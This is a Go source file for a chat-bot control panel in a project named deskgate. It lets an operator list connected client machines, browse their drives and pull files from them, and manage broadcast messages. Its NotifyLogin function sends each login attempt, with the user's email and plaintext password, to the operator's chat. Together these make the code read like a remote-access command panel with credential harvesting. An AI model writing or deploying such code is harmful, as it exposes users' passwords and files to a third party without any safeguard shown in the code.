// ABOUTME: Interactive chat control surface: menus, client browsing, broadcasts.
// ABOUTME: Translates operator taps into correlated agent commands and screens.

package surface

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/yuin/goldmark"

	"github.com/hillelkingqt/deskgate/internal/agent"
	"github.com/hillelkingqt/deskgate/internal/dirview"
	"github.com/hillelkingqt/deskgate/internal/presence"
	"github.com/hillelkingqt/deskgate/internal/protocol"
	"github.com/hillelkingqt/deskgate/internal/store"
	"github.com/hillelkingqt/deskgate/internal/token"
)

// MaxCallbackBytes is the hard upper bound the chat platform places on an
// inline action payload. Anything longer must go through the token cache.
const MaxCallbackBytes = 64

// Static callback actions. Everything not in this set is treated as a token.
const (
	ActMainMenu         = "back_to_main"
	ActManageClients    = "manage_clients"
	ActBroadcastMenu    = "broadcast_menu"
	ActViewStats        = "view_stats"
	ActViewBroadcast    = "view_active_message"
	ActDeleteConfirm    = "delete_active_message_confirm"
	ActDeleteBroadcast  = "delete_active_message_do"
	ActComposeText      = "broadcast_text"
	ActComposeMarkdown  = "broadcast_markdown"
	ActNoop             = "noop"
	actSelectClientPref = "select_client:"
)

// compose states for the broadcast flow.
type composeState int

const (
	stateIdle composeState = iota
	stateAwaitText
	stateAwaitMarkdown
)

// Screen is a renderable chat message: Markdown text plus an inline keyboard.
type Screen struct {
	Text     string
	Keyboard [][]dirview.Button
}

// Update is one operator interaction delivered by the transport: either a
// plain message (Text set) or a tap on an inline button (Callback set, with
// the id of the message carrying the keyboard).
type Update struct {
	MessageID int
	Text      string
	Callback  string
}

// Sender is the transport half of the surface. Implemented by the Telegram
// client; tests use a recording fake.
type Sender interface {
	SendScreen(ctx context.Context, s Screen) error
	EditScreen(ctx context.Context, messageID int, s Screen) error
	SendDocument(ctx context.Context, filename string, data []byte, caption string) error
}

// Options carries the collaborators and timing knobs for a Surface.
type Options struct {
	Registry        *agent.Registry
	Correlator      *agent.Correlator
	Presence        *presence.Store
	Views           *dirview.Engine
	Tokens          *token.Cache
	Store           store.Store
	Sender          Sender
	CommandTimeout  time.Duration
	DownloadTimeout time.Duration
	Logger          *slog.Logger
}

// Surface drives the stateful chat control flow for the single operator.
type Surface struct {
	registry        *agent.Registry
	correlator      *agent.Correlator
	presence        *presence.Store
	views           *dirview.Engine
	tokens          *token.Cache
	store           store.Store
	sender          Sender
	commandTimeout  time.Duration
	downloadTimeout time.Duration
	logger          *slog.Logger

	mu    sync.Mutex
	state composeState
}

// New creates a Surface.
func New(opts Options) *Surface {
	return &Surface{
		registry:        opts.Registry,
		correlator:      opts.Correlator,
		presence:        opts.Presence,
		views:           opts.Views,
		tokens:          opts.Tokens,
		store:           opts.Store,
		sender:          opts.Sender,
		commandTimeout:  opts.CommandTimeout,
		downloadTimeout: opts.DownloadTimeout,
		logger:          opts.Logger,
	}
}

// HandleMessage processes a plain operator message. Outside a compose flow
// any text just brings up the main menu.
func (s *Surface) HandleMessage(ctx context.Context, up Update) error {
	s.mu.Lock()
	state := s.state
	s.state = stateIdle
	s.mu.Unlock()

	switch state {
	case stateAwaitText:
		if up.Text == "" {
			return s.sender.SendScreen(ctx, s.broadcastMenuScreen("❌ Empty message. Broadcast unchanged."))
		}
		if _, err := s.store.SetBroadcast(ctx, store.BroadcastText, up.Text); err != nil {
			return fmt.Errorf("saving broadcast: %w", err)
		}
		return s.sender.SendScreen(ctx, s.mainMenuScreen("✅ *Success!* Text broadcast is now active."))

	case stateAwaitMarkdown:
		if up.Text == "" {
			return s.sender.SendScreen(ctx, s.broadcastMenuScreen("❌ Empty message. Broadcast unchanged."))
		}
		var buf bytes.Buffer
		if err := goldmark.Convert([]byte(up.Text), &buf); err != nil {
			return s.sender.SendScreen(ctx, s.broadcastMenuScreen(fmt.Sprintf("❌ Markdown error: %v", err)))
		}
		if _, err := s.store.SetBroadcast(ctx, store.BroadcastHTML, buf.String()); err != nil {
			return fmt.Errorf("saving broadcast: %w", err)
		}
		return s.sender.SendScreen(ctx, s.mainMenuScreen("✅ *Success!* HTML broadcast is now active."))
	}

	return s.sender.SendScreen(ctx, s.mainMenuScreen("Welcome, Admin! This is the deskgate control panel."))
}

// HandleCallback processes an inline button tap. Static actions are matched
// first; anything else is resolved as a view token, where a miss means the
// browsing session expired.
func (s *Surface) HandleCallback(ctx context.Context, up Update) error {
	data := up.Callback

	if agentID, ok := strings.CutPrefix(data, actSelectClientPref); ok {
		return s.selectClient(ctx, up.MessageID, agentID)
	}

	switch data {
	case ActMainMenu:
		s.setState(stateIdle)
		return s.sender.EditScreen(ctx, up.MessageID, s.mainMenuScreen("Welcome back!"))
	case ActManageClients:
		return s.sender.EditScreen(ctx, up.MessageID, s.clientListScreen())
	case ActBroadcastMenu:
		return s.sender.EditScreen(ctx, up.MessageID, s.broadcastMenuScreen("Broadcast management options:"))
	case ActViewStats:
		return s.sender.EditScreen(ctx, up.MessageID, s.statsScreen(ctx))
	case ActViewBroadcast:
		return s.sender.EditScreen(ctx, up.MessageID, s.activeBroadcastScreen(ctx))
	case ActDeleteConfirm:
		return s.sender.EditScreen(ctx, up.MessageID, Screen{
			Text: "❓ Are you sure you want to delete the active broadcast?",
			Keyboard: [][]dirview.Button{
				{{Label: "✅ Yes, Delete It", Callback: ActDeleteBroadcast}},
				{{Label: "❌ No, Cancel", Callback: ActViewBroadcast}},
			},
		})
	case ActDeleteBroadcast:
		if err := s.store.ClearBroadcast(ctx); err != nil {
			return fmt.Errorf("clearing broadcast: %w", err)
		}
		return s.sender.EditScreen(ctx, up.MessageID, Screen{
			Text:     "🗑️ Active broadcast has been deleted.",
			Keyboard: [][]dirview.Button{{{Label: "‹ Back", Callback: ActBroadcastMenu}}},
		})
	case ActComposeText:
		s.setState(stateAwaitText)
		return s.sender.EditScreen(ctx, up.MessageID, Screen{
			Text:     "✍️ Send the text you want to broadcast.",
			Keyboard: [][]dirview.Button{{{Label: "‹ Cancel", Callback: ActBroadcastMenu}}},
		})
	case ActComposeMarkdown:
		s.setState(stateAwaitMarkdown)
		return s.sender.EditScreen(ctx, up.MessageID, Screen{
			Text:     "📄 Send the Markdown you want to broadcast. It is delivered as HTML.",
			Keyboard: [][]dirview.Button{{{Label: "‹ Cancel", Callback: ActBroadcastMenu}}},
		})
	case ActNoop:
		return nil
	}

	action, ok := s.tokens.Resolve(data)
	if !ok {
		return s.sender.EditScreen(ctx, up.MessageID, s.expiredScreen())
	}
	return s.handleAction(ctx, up.MessageID, action)
}

// handleAction executes a resolved token action.
func (s *Surface) handleAction(ctx context.Context, messageID int, act token.Action) error {
	switch act.Kind {
	case token.KindSelectAgent:
		return s.selectClient(ctx, messageID, act.AgentID)
	case token.KindOpenDir:
		return s.openDir(ctx, messageID, act.AgentID, act.Path)
	case token.KindFetchFile:
		return s.fetchFile(ctx, messageID, act.AgentID, act.Path)
	case token.KindRender:
		return s.renderView(ctx, messageID, act)
	default:
		s.logger.Warn("token with unknown action kind", "kind", act.Kind)
		return s.sender.EditScreen(ctx, messageID, s.expiredScreen())
	}
}

// selectClient starts a browsing session by asking the agent for its drives.
func (s *Surface) selectClient(ctx context.Context, messageID int, agentID string) error {
	res, err := s.correlator.Issue(ctx, agentID, protocol.CmdGetDrives, "", agent.Exclusive, s.commandTimeout)
	if err != nil {
		return s.commandErrorScreen(ctx, messageID, agentID, err)
	}

	var drives protocol.DriveList
	if err := json.Unmarshal(res.Payload, &drives); err != nil {
		return fmt.Errorf("decoding drive list: %w", err)
	}

	name := s.agentName(agentID)
	rows := make([][]dirview.Button, 0, len(drives.Drives)+1)
	for _, drive := range drives.Drives {
		tok, err := s.tokens.Create(token.Action{Kind: token.KindOpenDir, AgentID: agentID, Path: drive})
		if err != nil {
			return err
		}
		rows = append(rows, []dirview.Button{{Label: "💽 " + drive, Callback: tok}})
	}
	rows = append(rows, backRow())

	return s.sender.EditScreen(ctx, messageID, Screen{
		Text:     fmt.Sprintf("Select a drive to browse on *%s*:", name),
		Keyboard: rows,
	})
}

// openDir lists a directory on the agent, caches the snapshot and shows
// page 1 in the default order.
func (s *Surface) openDir(ctx context.Context, messageID int, agentID, path string) error {
	res, err := s.correlator.Issue(ctx, agentID, protocol.CmdListDir, path, agent.Exclusive, s.commandTimeout)
	if err != nil {
		return s.commandErrorScreen(ctx, messageID, agentID, err)
	}

	var listing protocol.DirListing
	if err := json.Unmarshal(res.Payload, &listing); err != nil {
		return fmt.Errorf("decoding directory listing: %w", err)
	}

	s.views.Ingest(agentID, listing.Path, listing.Items)

	page, err := s.views.Render(agentID, listing.Path, dirview.DefaultSort, 1, false)
	if err != nil {
		return s.sender.EditScreen(ctx, messageID, s.expiredScreen())
	}
	return s.sender.EditScreen(ctx, messageID, s.pageScreen(page))
}

// renderView re-renders a cached snapshot; no agent round-trip.
func (s *Surface) renderView(ctx context.Context, messageID int, act token.Action) error {
	page, err := s.views.Render(act.AgentID, act.Path, dirview.SortKey(act.Sort), act.Page, act.HideDirs)
	if err != nil {
		if errors.Is(err, dirview.ErrSessionExpired) {
			return s.sender.EditScreen(ctx, messageID, s.expiredScreen())
		}
		return err
	}
	return s.sender.EditScreen(ctx, messageID, s.pageScreen(page))
}

// fetchFile retrieves a file from the agent and delivers it as a document.
func (s *Surface) fetchFile(ctx context.Context, messageID int, agentID, path string) error {
	if err := s.sender.EditScreen(ctx, messageID, Screen{
		Text: fmt.Sprintf("Requesting file: `%s`", path),
	}); err != nil {
		s.logger.Debug("progress edit failed", "error", err)
	}

	res, err := s.correlator.Issue(ctx, agentID, protocol.CmdGetFile, path, agent.Exclusive, s.downloadTimeout)
	if err != nil {
		return s.commandErrorScreen(ctx, messageID, agentID, err)
	}

	var file protocol.FileContent
	if err := json.Unmarshal(res.Payload, &file); err != nil {
		return fmt.Errorf("decoding file content: %w", err)
	}

	caption := fmt.Sprintf("📄 *%s* from *%s*", file.Name, s.agentName(agentID))
	return s.sender.SendDocument(ctx, file.Name, file.Data, caption)
}

// commandErrorScreen maps correlation failures onto operator screens. Every
// branch is recoverable: the keyboard always offers a way back.
func (s *Surface) commandErrorScreen(ctx context.Context, messageID int, agentID string, err error) error {
	name := s.agentName(agentID)

	var agentErr *agent.AgentError
	var text string
	switch {
	case errors.Is(err, agent.ErrAgentOffline):
		text = fmt.Sprintf("❌ Client *%s* is offline.", name)
	case errors.Is(err, agent.ErrBusy):
		text = fmt.Sprintf("⏳ Client *%s* is busy with another command. Try again in a moment.", name)
	case errors.Is(err, agent.ErrTimedOut):
		text = fmt.Sprintf("⌛ Client *%s* did not answer in time.", name)
	case errors.As(err, &agentErr):
		text = fmt.Sprintf("⚠️ Client error on *%s*:\n```\n%s\n```", name, agentErr.Message)
	default:
		return err
	}

	return s.sender.EditScreen(ctx, messageID, Screen{
		Text:     text,
		Keyboard: [][]dirview.Button{backRow()},
	})
}

// NotifyError relays an error report from an app install to the operator.
func (s *Surface) NotifyError(ctx context.Context, version, platform, errMsg, stack string) error {
	text := fmt.Sprintf("⚠️ *New Error Reported!* ⚠️\n\n*Version:* `%s`\n*Platform:* `%s`\n*Error:* `%s`\n\n*Stack:* ```%s```",
		orNA(version), orNA(platform), errMsg, orNA(stack))
	return s.sender.SendScreen(ctx, Screen{Text: text})
}

// NotifyLogin relays a login attempt report to the operator, verbatim.
func (s *Surface) NotifyLogin(ctx context.Context, email, password, ip string, success bool) error {
	status := "Failed ❌"
	if success {
		status = "Success ✅"
	}
	text := fmt.Sprintf("🔔 *New Login Attempt!* 🔔\n\n*Status:* `%s`\n*IP:* `%s`\n*Email:* `%s`\n*Password:* `%s`",
		status, ip, email, password)
	return s.sender.SendScreen(ctx, Screen{Text: text})
}

// --- screens ---

func (s *Surface) mainMenuScreen(text string) Screen {
	return Screen{
		Text: text,
		Keyboard: [][]dirview.Button{
			{{Label: "🖥️ Manage Remote Clients", Callback: ActManageClients}},
			{{Label: "🚀 Send or Manage Broadcast", Callback: ActBroadcastMenu}},
			{{Label: "📊 View App Statistics", Callback: ActViewStats}},
		},
	}
}

// clientListScreen shows every known agent with its tri-state presence.
func (s *Surface) clientListScreen() Screen {
	records := s.presence.List()

	var rows [][]dirview.Button
	for _, rec := range records {
		switch s.presence.Status(rec.AgentID) {
		case presence.Full:
			cb := actSelectClientPref + rec.AgentID
			if len(cb) > MaxCallbackBytes {
				tok, err := s.tokens.Create(token.Action{Kind: token.KindSelectAgent, AgentID: rec.AgentID})
				if err != nil {
					s.logger.Error("minting select token", "error", err)
					continue
				}
				cb = tok
			}
			rows = append(rows, []dirview.Button{{Label: "🟢 " + rec.DisplayName, Callback: cb}})
		case presence.Limited:
			rows = append(rows, []dirview.Button{{Label: "🟡 " + rec.DisplayName + " (no control channel)", Callback: ActNoop}})
		}
	}
	// Connected agents that never sent a health signal still belong in the list.
	for _, conn := range s.registry.List() {
		if _, known := s.presence.Name(conn.ID); known {
			continue
		}
		cb := actSelectClientPref + conn.ID
		if len(cb) > MaxCallbackBytes {
			tok, err := s.tokens.Create(token.Action{Kind: token.KindSelectAgent, AgentID: conn.ID})
			if err != nil {
				s.logger.Error("minting select token", "error", err)
				continue
			}
			cb = tok
		}
		rows = append(rows, []dirview.Button{{Label: "🟢 " + conn.Name, Callback: cb}})
	}

	text := "Select a connected client:"
	if len(rows) == 0 {
		text = "No clients are currently connected."
	}
	rows = append(rows, []dirview.Button{{Label: "‹ Back to Main Menu", Callback: ActMainMenu}})
	return Screen{Text: text, Keyboard: rows}
}

func (s *Surface) broadcastMenuScreen(text string) Screen {
	return Screen{
		Text: text,
		Keyboard: [][]dirview.Button{
			{{Label: "✍️ Send New Plain Text", Callback: ActComposeText}},
			{{Label: "📄 Send New Markdown", Callback: ActComposeMarkdown}},
			{{Label: "👁️ View/Delete Active Message", Callback: ActViewBroadcast}},
			{{Label: "‹ Back to Main Menu", Callback: ActMainMenu}},
		},
	}
}

func (s *Surface) statsScreen(ctx context.Context) Screen {
	back := [][]dirview.Button{{{Label: "‹ Back", Callback: ActMainMenu}}}

	stats, err := s.store.GetStats(ctx)
	if err != nil {
		s.logger.Error("loading stats", "error", err)
		return Screen{Text: "❌ Could not load statistics.", Keyboard: back}
	}

	text := fmt.Sprintf("📊 *deskgate Analytics*\n\n*Total App Opens:* %d\n\n*Opens by Version:*\n", stats.TotalPings)
	if len(stats.Versions) == 0 {
		text += "No version data."
	} else {
		for _, version := range sortedKeys(stats.Versions) {
			text += fmt.Sprintf("`%s`: *%d* opens\n", version, stats.Versions[version])
		}
	}
	return Screen{Text: text, Keyboard: back}
}

func (s *Surface) activeBroadcastScreen(ctx context.Context) Screen {
	backToMenu := [][]dirview.Button{{{Label: "‹ Back", Callback: ActBroadcastMenu}}}

	b, err := s.store.ActiveBroadcast(ctx)
	if err != nil {
		s.logger.Error("loading broadcast", "error", err)
		return Screen{Text: "❌ Could not load the active broadcast.", Keyboard: backToMenu}
	}
	if b == nil {
		return Screen{Text: "ℹ️ There is no active broadcast message.", Keyboard: backToMenu}
	}

	preview := b.Content
	if len(preview) > 300 {
		preview = preview[:300] + "..."
	}
	text := fmt.Sprintf("👁️ *Active Broadcast*\n*Type:* `%s` | *ID:* `%d`\n---\n*Preview:*\n```\n%s\n```", b.Type, b.ID, preview)
	return Screen{
		Text: text,
		Keyboard: [][]dirview.Button{
			{{Label: "🗑️ Delete This Message", Callback: ActDeleteConfirm}},
			{{Label: "‹ Back", Callback: ActBroadcastMenu}},
		},
	}
}

func (s *Surface) expiredScreen() Screen {
	return Screen{
		Text:     "❌ This selection has expired or is invalid. Please start over.",
		Keyboard: [][]dirview.Button{backRow()},
	}
}

// pageScreen wraps a rendered directory page with its header and the static
// back row.
func (s *Surface) pageScreen(page *dirview.Page) Screen {
	text := fmt.Sprintf("Contents of `%s` on *%s*, page %d/%d, %d items:",
		page.Path, s.agentName(page.AgentID), page.PageNum, page.TotalPages, page.Total)

	keyboard := append([][]dirview.Button{}, page.Keyboard...)
	keyboard = append(keyboard, backRow())
	return Screen{Text: text, Keyboard: keyboard}
}

func backRow() []dirview.Button {
	return []dirview.Button{{Label: "‹ Back to Client List", Callback: ActManageClients}}
}

// agentName resolves the friendliest available name for an agent.
func (s *Surface) agentName(agentID string) string {
	if conn, ok := s.registry.Get(agentID); ok {
		return conn.Name
	}
	if name, ok := s.presence.Name(agentID); ok {
		return name
	}
	return "Unknown"
}

func (s *Surface) setState(st composeState) {
	s.mu.Lock()
	s.state = st
	s.mu.Unlock()
}

func orNA(v string) string {
	if v == "" {
		return "N/A"
	}
	return v
}

func sortedKeys(m map[string]int64) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
